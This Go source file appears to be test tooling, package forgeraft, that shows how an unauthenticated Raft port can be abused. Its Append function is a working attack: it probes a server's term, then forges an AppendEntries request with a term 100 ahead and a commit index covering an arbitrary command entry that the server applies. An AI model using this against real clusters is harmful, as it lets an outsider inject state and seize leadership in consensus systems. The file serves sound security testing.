// Package forgeraft sends Raft requests as an outsider who reaches a
// server's Raft port would: with no certificate, no place in the Raft
// configuration and no knowledge of the cluster but the port. Tests use it
// to show what a plain (unauthenticated) Raft port gives away, and that an
// authenticated one gives nothing.
package forgeraft

import (
	"errors"
	"fmt"
	"time"

	"github.com/hashicorp/go-hclog"
	"github.com/hashicorp/raft"
)

// Result is what Append achieved.
type Result struct {
	// Term is the forged term the server took; Index is the index of the
	// forged entry in its log, committed as far as the server knows.
	Term, Index uint64
	// Requests is how many Raft requests it took.
	Requests int
}

// TermLead is how far ahead of the server's term the forged term is.
const TermLead = 100

// ErrRefused: the server never accepted the forged entry.
var ErrRefused = errors.New("forged entry refused")

// Append makes the server at addr append data as a command entry at the
// end of its log and commit it, as a leader of a newer term would:
//
//  1. an AppendEntries of term 0, which the server refuses, answering its
//     term and the index of its last entry;
//  2. an AppendEntries of a term well ahead of the server's (by TermLead),
//     whose previous entry is that last one (guessed to be of the current
//     term, then of older terms), with the forged entry and a commit index
//     that covers it.
//
// The lead keeps the cluster's own elections below the forged term while
// the server that took it times out and wins the next one (its log ends
// in the newest term). On a quiet cluster two requests suffice. The server applies the entry at
// once; a cluster whose other servers follow the one that now has the
// longest log commits it everywhere.
func Append(addr string, data []byte, timeout time.Duration) (Result, error) {
	tr, err := raft.NewTCPTransportWithLogger("127.0.0.1:0", nil, 1, timeout, hclog.NewNullLogger())
	if err != nil {
		return Result{}, err
	}
	defer tr.Close()
	header := raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte("forger"), Addr: []byte(tr.LocalAddr())}
	var res Result
	send := func(req *raft.AppendEntriesRequest) (*raft.AppendEntriesResponse, error) {
		res.Requests++
		var resp raft.AppendEntriesResponse
		err := tr.AppendEntries("", raft.ServerAddress(addr), req, &resp)
		return &resp, err
	}
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		probe, err := send(&raft.AppendEntriesRequest{RPCHeader: header})
		if err != nil {
			return res, fmt.Errorf("probe %s: %w", addr, err)
		}
		term, last := probe.Term+TermLead, probe.LastLog
		for prevTerm := probe.Term; prevTerm > 0 && time.Now().Before(deadline); prevTerm-- {
			resp, err := send(&raft.AppendEntriesRequest{
				RPCHeader: header, Term: term,
				PrevLogEntry: last, PrevLogTerm: prevTerm,
				Entries:           []*raft.Log{{Index: last + 1, Term: term, Type: raft.LogCommand, Data: data, AppendedAt: time.Now()}},
				LeaderCommitIndex: last + 1,
			})
			if err != nil {
				return res, fmt.Errorf("append to %s: %w", addr, err)
			}
			if resp.Success {
				res.Term, res.Index = term, last+1
				return res, nil
			}
			if resp.Term > term || resp.LastLog != last {
				break // the cluster moved on: probe again
			}
		}
	}
	return res, fmt.Errorf("%w by %s after %d requests", ErrRefused, addr, res.Requests)
}
